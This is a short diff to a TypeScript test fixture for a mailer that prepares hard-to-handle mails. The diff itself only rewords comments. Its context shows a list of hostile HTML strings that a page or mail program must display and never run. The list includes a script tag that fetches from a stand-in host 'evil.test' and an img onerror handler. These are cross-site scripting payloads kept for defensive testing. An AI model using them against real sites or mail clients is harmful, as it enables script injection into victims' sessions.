@@ -1,9 +1,9 @@
-/** Mails that are hard to answer, ready to be written. */
+/** Prepared mails that are hard to answer. */
 import type { MailFile, WrittenMail } from '@botyard/testing/mailer/types';
 
 export type Piece = { name: string; shows: string };
 
-/** What a page or a mail program must show and never run. */
+/** HTML that a page or a mail program must show and never run. */
 const hostileHtml = [
   '<script>window.pwned = true; fetch("http://evil.test/script")</script>',
   '<img src="http://evil.test/pixel.png" onerror="window.pwned = true">',
@@ -78,7 +78,7 @@ export const listOfPieces = Object.entries(pieces).map(([piece, { name, shows }]
   shows,
 }));
 
-/** `undefined` when there is none of this name. */
+/** `undefined` for an unknown name. */
 export function asPiece(piece: string, mail: WrittenMail): WrittenMail | undefined {
   return Object.hasOwn(pieces, piece) ? pieces[piece]?.change(mail) : undefined;
 }
